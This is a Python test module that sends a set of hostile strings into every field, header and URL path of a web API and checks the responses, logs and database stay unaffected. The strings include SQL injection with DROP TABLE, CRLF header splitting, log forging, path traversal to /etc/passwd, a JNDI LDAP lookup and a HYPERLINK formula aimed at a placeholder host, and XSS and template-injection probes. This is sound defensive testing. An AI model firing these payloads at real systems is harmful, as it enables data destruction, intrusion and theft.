"""Hostile text in every field, header and path comes back inert (P44, P50)."""

import io
import json
import socket
import sys
from collections.abc import Iterator
from typing import Any

import httpx
import pytest
from sqlalchemy import inspect

from custody.schemas.call import Call
from custody.schemas.calls import CALLS
from custody.schemas.errors import ErrorCode
from custody.server.audit.verification import read_through
from custody.server.cli.logs import begin_log
from custody.server.rules.roles import EVERY_PERMISSION
from tests.custody.spec.samples import sample, send
from tests.custody.spec.staging import Stage, open_stage
from tests.support.examples import drawn
from tests.support.platform import World

HOSTILE = (
    "' OR '1'='1' --", "1; DROP TABLE users; --", "x\r\nSet-Cookie: refresh_token=forged\r\n\r\n<html>",
    '\n{"level": "info", "event": "forged"}', "\x1b]0;owned\x07\x1b[2J", "../../../../etc/passwd",
    "${jndi:ldap://192.0.2.1/a} %s%n {0.__class__} {{7*7}}", "<script>alert(1)</script>",
    '=HYPERLINK("http://192.0.2.1")',
)  # fmt: skip
TAKING = [row for row in CALLS if row.shape is not None]
# A run sends them to half of the endpoints; ``TEST_EXAMPLES=2`` to all.
DRAWN = drawn(TAKING, -(-len(TAKING) // 2), of=__name__)
ROWS = [pytest.param(row, id=f"{row.method} {row.path}") for row in DRAWN]


@pytest.fixture(scope="module")
def stage(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stage]:
    with open_stage(tmp_path_factory.mktemp("state")) as opened:
        # Nine strings in each of some hundred fields, by one person, in one minute.
        rates = opened.desk.world.platform.services.rates
        rates.calls._limit = rates.writes._limit = 10**6
        yield opened
        assert not read_through(opened.desk.store).findings


@pytest.fixture(scope="module")
def inside(stage: Stage) -> Iterator[str]:
    """P44: an address within the platform's own network, which it never requests, whatever field holds it."""
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.settimeout(0)
        yield f"http://127.0.0.1:{listener.getsockname()[1]}/internal"
        stage.desk.settle()
        with pytest.raises(BlockingIOError):
            listener.accept()
        # The same listener notices a call.
        socket.create_connection(listener.getsockname()).close()
        listener.accept()[0].close()


@pytest.fixture
def logged(monkeypatch: pytest.MonkeyPatch) -> io.StringIO:
    """The log as ``custody serve`` writes it."""
    kept = io.StringIO()
    monkeypatch.setattr(sys, "stderr", kept)
    begin_log("info")
    return kept


def lines(logged: io.StringIO) -> list[dict[str, Any]]:
    return [json.loads(line) for line in logged.getvalue().splitlines()]


def is_inert(answer: httpx.Response) -> None:
    assert answer.status_code < 500, answer.text
    assert set(answer.headers) <= HEADERS, answer.headers
    assert answer.headers["content-type"] in {"application/json", "application/problem+json"}
    if answer.status_code >= 400:
        assert answer.json()["code"] in set(ErrorCode)


HEADERS = {
    "content-length", "content-type", "x-trace-id", "x-content-type-options", "cache-control", "etag", "link",
    "x-total-count", "www-authenticate", "retry-after", "connection", "allow",
}  # fmt: skip


@pytest.mark.parametrize("row", ROWS)
def test_p44_p50_every_field_of_every_endpoint(
    row: Call[Any, Any], stage: Stage, inside: str, logged: io.StringIO
) -> None:
    """As the body's or the query's, by one who may do everything."""
    stage.gives(EVERY_PERMISSION)
    stage.desk.world.clock.advance(hours=1)
    tester = stage.desk.world.as_user("tester@example.org")
    begun = len(lines(logged))
    before = tables(stage.desk.world)
    path = row.path.format(**dict.fromkeys(row.path_ids, 1))
    body = sample(row, stage.known())
    count = 0
    for number, (name, field) in enumerate(row.shape.model_fields.items()):
        # Each text reaches each endpoint, and a third of them each field.
        some = HOSTILE[number % 3 :: 3] if len(row.shape.model_fields) > 2 else HOSTILE
        for text in (*some, inside):
            is_inert(send(tester, row, body | {field.alias or name: text}))
            count += 1
    assert [line["path"] for line in lines(logged)[begun:]] == [path] * count
    assert tables(stage.desk.world) == before


def tables(world: World) -> list[str]:
    with world.platform.services.store.read() as db:
        return sorted(inspect(db.connection()).get_table_names())


class TestHeaders:
    @pytest.mark.parametrize("text", HOSTILE)
    @pytest.mark.parametrize(
        "name",
        ["Idempotency-Key", "Authorization", "X-Trace-Id", "User-Agent", "X-Forwarded-For", "Referer",
         "Cookie", "If-None-Match", "Prefer", "Accept", "Content-Type", "Host"],
    )  # fmt: skip
    def test_reach_neither_the_answer_nor_the_log(
        self, name: str, text: str, stage: Stage, logged: io.StringIO
    ) -> None:
        raw = {**stage.desk.admin.headers, name: text.encode()}
        answer = stage.desk.world.http.get("/api/v1/psbt", params={"workspace_id": 1}, headers=raw)
        is_inert(answer)
        (line,) = lines(logged)
        own = {"method", "path", "status", "milliseconds", "trace_id", "event", "level", "timestamp"}
        assert set(line) == own
        assert line["trace_id"] == answer.headers["X-Trace-Id"]
        assert text not in logged.getvalue()


class TestPaths:
    @pytest.mark.parametrize(
        "path",
        [
            "/api/v1/%0d%0aSet-Cookie:%20a=b",
            "/api/v1/..%2f..%2f..%2fetc%2fpasswd",
            "/api/v1/../../auth/login",
            "/api/v1/keys;x=1",
            "/api/v1/keys%00",
            "/api/v1/%F0%9F%98%80%FF",
            "/api/v1/onboarding-requests/1%20OR%201=1/review",
            "/api/v1/onboarding-requests/-1/review",
            "/api/v1/onboarding-requests/99999999999999999999999999/review",
            "/" + "a" * 50_000,
        ],
    )
    def test_lead_nowhere(self, path: str, stage: Stage, logged: io.StringIO) -> None:
        stage.desk.world.clock.advance(hours=1)
        admin = stage.desk.world.as_user("admin@example.org")
        for method in ("GET", "POST"):
            answer = stage.desk.world.http.request(method, path, headers=admin.headers, json={})
            is_inert(answer)
            assert answer.status_code in {404, 405, 422}
        assert len(lines(logged)) == 3
